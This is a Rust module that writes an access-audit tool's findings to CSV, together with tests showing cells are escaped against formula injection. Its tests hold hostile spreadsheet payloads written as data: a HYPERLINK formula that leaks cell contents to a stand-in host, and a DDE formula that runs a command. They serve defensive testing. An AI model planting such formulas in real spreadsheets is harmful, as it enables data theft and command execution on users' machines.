//! The CSV report: one row per finding, then one per suppressed finding, for spreadsheets
//! and ticket imports.
//!
//! Columns: `fingerprint,rule_id,rule_name,severity,subject,entitlement,message,path,`
//! `source_file,source_line,suppressed,suppression_reason`. `path` is the privilege path as
//! `alice -member-of(standing)-> platform -assigned(standing)-> prod-admin`, empty when the
//! finding has none; `source_*` is the finding's first evidence record.
//!
//! An incomplete audit (a source not read in full, a rule that crashed) ends with one row per
//! coverage gap: `rule_id` `INCOMPLETE`, `rule_name` `coverage-gap`, the gap in `message`, the
//! other cells empty — so a spreadsheet of an incomplete audit never looks like a clean one.
//! A complete audit has no such row.
//!
//! Every cell goes through [`escape::csv_cell`] (formula injection), and every data cell is
//! quoted: a spreadsheet in a locale whose list separator is `;` or that splits on tabs would
//! otherwise cut an unquoted `a;=1+1` into a second cell that starts with `=`.

use super::{escape, ScanReport};
use crate::finding::Finding;

/// The header row, fixed: a column is only ever added at the end.
pub const HEADER: [&str; 12] = [
    "fingerprint",
    "rule_id",
    "rule_name",
    "severity",
    "subject",
    "entitlement",
    "message",
    "path",
    "source_file",
    "source_line",
    "suppressed",
    "suppression_reason",
];

/// Renders findings and suppressed findings as CSV, header first, `\n` line endings.
pub fn render(report: &ScanReport) -> String {
    let mut out = Vec::new();
    write(report, &mut out).expect("writing CSV to memory cannot fail");
    String::from_utf8(out).expect("CSV built from Rust strings is UTF-8")
}

/// Streams the CSV report row by row (see [`render`]).
pub fn write(report: &ScanReport, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    // The header is constant and needs no quoting; written plainly it stays easy to match.
    out.write_all(HEADER.join(",").as_bytes())?;
    out.write_all(b"\n")?;
    let mut writer = ::csv::WriterBuilder::new()
        .quote_style(::csv::QuoteStyle::Always)
        .from_writer(out);
    let rows = report.findings.iter().map(|f| row(f, None)).chain(
        report
            .suppressed
            .iter()
            .map(|s| row(&s.finding, Some(&s.reason))),
    );
    let gaps = report.coverage.gaps.iter().map(|gap| {
        let mut cells: [String; 12] = Default::default();
        cells[1] = "INCOMPLETE".into();
        cells[2] = "coverage-gap".into();
        cells[6] = gap.clone();
        cells
    });
    for cells in rows.chain(gaps) {
        // Every row has the header's width, so only the writer itself can fail.
        writer
            .write_record(cells.iter().map(|cell| escape::csv_cell(cell).into_owned()))
            .map_err(std::io::Error::from)?;
    }
    writer.flush()
}

/// The unescaped cells of one row, in [`HEADER`] order.
fn row(finding: &Finding, suppression_reason: Option<&str>) -> [String; 12] {
    let source = finding.primary_source();
    [
        finding.fingerprint.clone(),
        finding.rule_id.clone(),
        finding.rule_name.clone(),
        finding.severity.as_str().to_string(),
        finding.subject.clone(),
        finding.entitlement.clone().unwrap_or_default(),
        finding.message.clone(),
        finding
            .evidence
            .path
            .as_ref()
            .map(ToString::to_string)
            .unwrap_or_default(),
        source.map(|p| p.file.to_string()).unwrap_or_default(),
        source
            .and_then(|p| p.line)
            .map(|line| line.to_string())
            .unwrap_or_default(),
        suppression_reason.is_some().to_string(),
        suppression_reason.unwrap_or_default().to_string(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::test_support::{report_with_subject, sample_report};

    fn parse(text: &str) -> Vec<Vec<String>> {
        ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn header_then_findings_then_suppressed() {
        let report = sample_report();
        let text = render(&report);
        assert!(text.starts_with(
            "fingerprint,rule_id,rule_name,severity,subject,entitlement,message,path,source_file,source_line,suppressed,suppression_reason\n"
        ));
        let rows = parse(&text);
        assert_eq!(rows.len(), 4);
        assert!(rows.iter().all(|r| r.len() == HEADER.len()));

        let first = &rows[1];
        assert_eq!(first[0], report.findings[0].fingerprint);
        assert_eq!(first[1], "SP001");
        assert_eq!(first[3], "high");
        assert_eq!(first[4], "alice@acme.example");
        assert_eq!(first[5], "prod-admin");
        assert_eq!(
            first[7],
            "alice@acme.example -member-of(standing)-> platform -assigned(standing)-> prod-admin"
        );
        assert_eq!(first[8], "okta/groups.json");
        assert_eq!(first[9], "12");
        assert_eq!(first[10], "false");
        assert_eq!(first[11], "");

        let no_path = &rows[2];
        assert_eq!(no_path[1], "SC001");
        assert_eq!((no_path[5].as_str(), no_path[7].as_str()), ("", ""));

        let suppressed = &rows[3];
        assert_eq!(suppressed[1], "SP004");
        assert_eq!(suppressed[8], "okta/assignments.json");
        assert_eq!(
            suppressed[9], "",
            "a record locator without a line leaves the line empty"
        );
        assert_eq!(suppressed[10], "true");
        assert_eq!(suppressed[11], "Finance quarter close; removal scheduled.");
    }

    #[test]
    fn formula_subjects_are_neutralised() {
        let hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        let rows = parse(&render(&report_with_subject(hostile)));
        assert_eq!(rows[1][4], format!("'{hostile}"));
        let rows = parse(&render(&report_with_subject("=cmd|' /C calc'!A0")));
        assert_eq!(rows[1][4], "'=cmd|' /C calc'!A0");
        // The path starts with the subject too, and is neutralised the same way.
        let mut report = report_with_subject("@SUM(1+1)");
        if let Some(path) = report.findings[0].evidence.path.as_mut() {
            std::sync::Arc::make_mut(&mut path.hops[0]).from.id = "@SUM(1+1)".into();
        }
        let rows = parse(&render(&report));
        assert_eq!(rows[1][4], "'@SUM(1+1)");
        assert!(
            rows[1][7].starts_with("'@SUM(1+1) -member-of"),
            "{}",
            rows[1][7]
        );
    }

    #[test]
    fn separators_and_newlines_stay_inside_the_cell() {
        let hostile = "a,b;=1+1\n\"c\"";
        let text = render(&report_with_subject(hostile));
        let rows = parse(&text);
        assert_eq!(rows.len(), 4);
        assert_eq!(rows[1][4], hostile);
        assert!(text.contains("\"a,b;=1+1\n\"\"c\"\"\""), "{text}");
    }

    #[test]
    fn rendering_twice_gives_identical_output() {
        let report = sample_report();
        assert_eq!(render(&report), render(&report));
    }
}
